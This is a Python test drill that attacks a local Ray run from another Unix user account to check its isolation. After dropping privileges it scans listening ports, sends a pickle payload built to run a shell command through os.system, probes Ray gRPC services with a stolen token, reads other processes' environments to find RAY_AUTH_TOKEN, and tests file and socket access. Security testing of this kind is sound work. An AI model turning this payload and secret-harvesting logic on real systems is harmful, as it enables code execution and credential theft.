"""Attack a run as another user of the machine: its ports, sockets, files and processes.

Prints a line for every attack that succeeds:  python -m tests.drills.other_user UID OWNED [FILE] ...
"""

from __future__ import annotations

import os
import pickle
import socket
import stat
import sys
from collections.abc import Iterator, Sequence
from contextlib import suppress
from pathlib import Path

import grpc

_LISTENS = "0A"  # in /proc/net/tcp
_METHODS = (
    *("InternalKVGcsService/InternalKVKeys", "NodeManagerService/GetSystemConfig"),
    *("CoreWorkerService/NumPendingTasks", "ObjectManagerService/Pull"),
)
_SHUT = {grpc.StatusCode.UNAUTHENTICATED, grpc.StatusCode.UNIMPLEMENTED}
_NO_GRPC = {grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.DEADLINE_EXCEEDED, grpc.StatusCode.UNKNOWN}


class _Run:
    """Pickle that runs a command in the process that unpickles it."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def ports() -> list[int]:
    """Return all TCP ports with a listener on this machine."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            _, local, _, state, *_ = line.split()
            if state == _LISTENS:
                found.add(int(local.rpartition(":")[2], 16))
    return sorted(found)


def send_pickles(port: int, owned: Path) -> None:
    """Send a pickle in each framing that servers of pickles use: none, multiprocessing's, ZeroMQ's."""
    load = pickle.dumps(_Run(f"id -u >> {owned}"))
    zmq = b"\xff\0\0\0\0\0\0\0\x01\x7f\x03\0NULL" + bytes(48)
    frames = (
        load,
        len(load).to_bytes(4, "big") + load,
        zmq + b"\0" + bytes([min(len(load), 255)]) + load,
        b"GET /\r\n\r\n",
    )
    for frame in frames:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1) as peer:
            peer.sendall(frame)
            peer.settimeout(0.2)
            peer.recv(1000)


def answers_of_ray(port: int, token: str | None) -> Iterator[str]:
    """Yield Ray's services that answer at the port; with the token they do."""
    metadata = [("authorization", f"Bearer {token}")] if token else []
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        for method in _METHODS:
            try:
                channel.unary_unary(f"/ray.rpc.{method}")(b"", timeout=1, metadata=metadata)
            except grpc.RpcError as error:
                if error.code() in _NO_GRPC:
                    return
                if error.code() in _SHUT:
                    continue
            yield f"answered: {method} at port {port}"


def sockets_that_answer() -> Iterator[str]:
    """Yield other users' Unix sockets that accept a connection, by path or abstract."""
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        path = line.split(maxsplit=7)[7] if len(line.split()) > 7 else ""
        if not path or path.startswith(("/run/", "/var/run/")):
            continue
        with suppress(OSError), socket.socket(socket.AF_UNIX) as mine:
            mine.connect("\0" + path[1:] if path.startswith("@") else path)
            yield f"connected to {path}"


def files_that_open(files: Sequence[str]) -> Iterator[str]:
    for file in files:
        for flags, what in ((os.O_RDONLY, "read"), (os.O_WRONLY, "written")):
            with suppress(OSError):
                os.close(os.open(file, flags | os.O_NONBLOCK))
                yield f"{what}: {file}"
        with suppress(OSError):
            if not os.lstat(os.path.dirname(file)).st_mode & stat.S_ISVTX and os.access(os.path.dirname(file), os.W_OK):
                yield f"can be replaced: {file}"


def secrets_of_processes() -> Iterator[str]:
    """Yield other users' processes whose environment can be read or whose command line shows the token."""
    for process in Path("/proc").iterdir():
        if process.name.isdigit() and process.name != str(os.getpid()):
            with suppress(OSError):
                (process / "environ").read_bytes()
                yield f"read the environment of {(process / 'cmdline').read_bytes()[:80]!r}"
            with suppress(OSError):
                if b"RAY_AUTH_TOKEN" in (process / "cmdline").read_bytes():
                    yield f"saw the token of {process.name}"


def main(arguments: Sequence[str]) -> None:
    uid, owned, *files = arguments
    # Once before dropping privileges, at an unused port: the other user may not be able to read the imports.
    send_pickles(1, Path(owned))
    assert not list(answers_of_ray(1, None))
    os.chdir("/")
    os.setgroups([])
    os.setgid(int(uid))
    os.setuid(int(uid))
    listening = ports()
    for port in listening:
        send_pickles(port, Path(owned))
        for found in answers_of_ray(port, os.environ.get("STOLEN_TOKEN")):
            print(found)
    for found in (*secrets_of_processes(), *files_that_open(files), *sockets_that_answer()):
        print(found)
    print(f"tried {len(listening)} ports and {len(files)} files")


if __name__ == "__main__":
    main(sys.argv[1:])
